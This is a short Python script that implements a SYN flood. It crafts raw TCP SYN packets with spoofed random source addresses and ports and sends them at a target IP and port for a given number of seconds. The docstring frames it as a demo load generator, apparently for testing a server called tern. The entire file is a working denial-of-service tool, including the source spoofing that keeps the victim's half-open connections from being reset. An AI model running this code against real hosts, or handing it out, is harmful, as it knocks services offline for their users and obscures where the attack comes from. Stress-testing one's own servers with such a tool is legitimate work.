#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""A small SYN flood for the demo: raw IPv4 SYNs with random source
addresses from a subnet the sending host does not own (so its kernel never
answers tern's SYN-ACKs with RSTs) and random source ports. Python, so a
few tens of thousands of SYNs per second at most; the benchmark's
generator is a separate tool.

usage: synflood.py DST_IP DST_PORT SRC_NET(a.b) SECONDS
"""
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    # MSS 1460 option, as a minimal real client would send
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    return ip + tcp  # the kernel fills the IP checksum for IP_HDRINCL


def main() -> int:
    dst_ip, dport, net, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    a, b = (int(x) for x in net.split("."))
    dst = socket.inet_aton(dst_ip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(7)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(256):
            src = bytes((a, b, rnd.randrange(256), rnd.randrange(1, 255)))
            s.sendto(syn(src, dst, rnd.randrange(1024, 65536), dport, rnd.getrandbits(32)),
                     (dst_ip, 0))
            sent += 1
    print(f"synflood: sent {sent} SYNs in {seconds:.0f} s ({sent / seconds:.0f}/s)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
